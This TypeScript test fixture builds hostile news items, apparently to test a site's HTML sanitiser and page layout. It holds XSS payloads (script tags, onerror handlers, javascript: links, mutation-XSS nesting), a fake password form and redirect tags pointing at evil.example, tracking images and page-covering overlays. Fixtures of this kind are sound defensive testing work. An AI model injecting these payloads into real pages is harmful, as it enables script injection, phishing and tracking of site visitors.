import type { StoredNewsItem } from '#server/store/content/news';

/** Hostile texts. Code that runs in one of them opens a dialog. */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.gif" alt="">',
  '<img src="//evil.example/a.png"><img src="../login/a.png"><img src="data:image/png;base64,AA==">',
  '<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a><a href="//evil.example">y</a><a href="login/key/a/b">z</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<style>* { display: none }</style><p style="position:fixed;inset:0">x</p><link rel="stylesheet" href="x">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div id="content" class="x" tabindex="1" contenteditable accesskey="s" slot="a" is="x-y">x</div>',
  '<dialog open>Session over</dialog><template><img src=x onerror=alert(1)></template><audio autoplay src=x>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<!--><img src=x onerror=alert(1)>-->',
] as const;

/** Texts that only a browser can check: they cover the page, or make it wider than the phone. */
const UNRULY_TEXTS = [
  '<div style="position:fixed;inset:0;z-index:9999;background:red" class="overlay">x</div>',
  '<style>header, main { visibility: hidden }</style><style>@import "https://evil.example/a.css"</style>',
  '<img src="howto-products.webp" alt="huge" width="9999" height="9999"><img src="nowhere.webp" width="9999" height="9999">',
  '<picture><source srcset="https://evil.example/a.webp"><img srcset="https://evil.example/b.webp 2x" src="https://evil.example/c.webp" alt="c"></picture>',
  `<h1>${'ก'.repeat(2000)}</h1><pre>${'x'.repeat(2000)}</pre><a href="https://evil.example/${'y'.repeat(500)}">${'z'.repeat(500)}</a>`,
  `<table><tr>${'<td>wide wide wide</td>'.repeat(60)}</tr></table>`,
  '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><portal src="https://evil.example"></portal>',
  '<a href="https://evil.example/elsewhere" target="_top" rel="opener" ping="https://evil.example/ping">elsewhere</a>',
] as const;

/** Each text is a news item with harmless text before it, which must stay readable. */
export function hostileNews(): readonly StoredNewsItem[] {
  return [...HOSTILE_TEXTS, ...UNRULY_TEXTS].map((text, at) => ({
    code: `HOSTILE_${at + 1}`,
    type: 'NEWS',
    title: `<img src=x onerror=alert(1)>${'ยาว'.repeat(200)}`,
    text: `<p>ก่อน</p>${text}`,
    banner: at % 2 === 0 ? '' : 'https://evil.example/banner.png',
    link: 'javascript:alert(1)',
    isActive: true,
    firstDay: '',
    lastDay: '',
  }));
}
